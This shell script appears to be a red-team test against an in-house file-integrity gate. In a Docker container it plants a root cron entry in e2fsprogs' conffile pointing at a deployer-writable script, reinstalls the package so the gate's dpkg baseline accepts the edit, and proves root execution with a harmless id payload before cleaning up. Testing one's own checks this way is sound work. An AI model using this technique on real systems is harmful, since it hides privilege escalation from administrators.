#!/bin/sh
# A conffile the admin edited is kept by dpkg through every upgrade, which rewrites the package's list: the file's
# inode is then older than the list, which "as dpkg unpacked it" (the stock baseline) took for the package's own.
# The admin's line in e2fsprogs' /etc/cron.d/e2scrub_all runs the deploy team's script (/srv/tools 2775
# root:deployer); the gate fails; then e2fsprogs is upgraded (here: reinstalled, keeping the edit): it passes.
# Usage: attack10/atk_kept_conffile.sh /tmp/atk10   (BASE=1: the code at main 13ee532)
set -eu
W=${1:-/tmp/atk10}; CT=$(cat $W/ct)
docker exec $CT sh -c "install -d -m 2775 -o root -g deployer /srv/tools; cp -p /etc/cron.d/e2scrub_all /root/e2.bak
echo '* * * * * root /srv/tools/report' >> /etc/cron.d/e2scrub_all"
echo "--- /etc/cron.d/e2scrub_all (its last line):"; docker exec $CT tail -1 /etc/cron.d/e2scrub_all
echo "--- the gate (read-only, as admin):"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - /etc/cron" | cut -c1-300 || true
echo "--- apt-get install --reinstall e2fsprogs (as an upgrade would: the admin's edit kept):"
docker exec $CT sh -c "sleep 2; DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --reinstall -o Dpkg::Options::=--force-confold e2fsprogs >/dev/null 2>&1; tail -1 /etc/cron.d/e2scrub_all; stat -c '%n ctime %Z' /etc/cron.d/e2scrub_all /var/lib/dpkg/info/e2fsprogs.list"
echo "--- the gate (read-only, as admin):"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - /etc/cron" | cut -c1-300 || true
ssh -F $W/ssh_config deployer 'printf "#!/bin/sh\nid > /tmp/root-ran\n" > /srv/tools/report; chmod 775 /srv/tools/report'
sleep $((62 - $(date +%S | sed 's/^0//')))
echo "--- /tmp/root-ran:"; docker exec $CT sh -c 'cat /tmp/root-ran 2>&1'
[ -n "${KEEP:-}" ] || docker exec $CT sh -c 'cp -p /root/e2.bak /etc/cron.d/e2scrub_all; rm -rf /srv/tools /tmp/root-ran /root/e2.bak'
